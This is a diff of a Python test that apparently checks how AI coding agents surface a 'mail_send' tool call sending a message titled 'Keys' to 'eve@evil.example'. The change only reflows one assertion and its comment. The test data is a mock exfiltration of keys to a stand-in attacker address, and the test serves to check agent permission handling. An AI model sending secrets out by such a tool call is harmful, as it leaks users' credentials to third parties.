@@ -112,7 +112,6 @@ async def test_v02_what_stands_on_a_question_and_a_row_is_what_a_real_agent_does
 
         asked, row = await person.lets("mail_send", {"to": "eve@evil.example", "subject": "Keys"})
         assert agent.name == "opencode" or "eve@evil.example" in asked  # which asks for no tool of a server
-        assert (
-            agent.name == "gemini" or "eve@evil.example" in row
-        )  # which tells of no arguments but when it asks
+        # Which tells of no arguments but when it asks.
+        assert agent.name == "gemini" or "eve@evil.example" in row
         assert outbox.read_text() == "eve@evil.example\n"
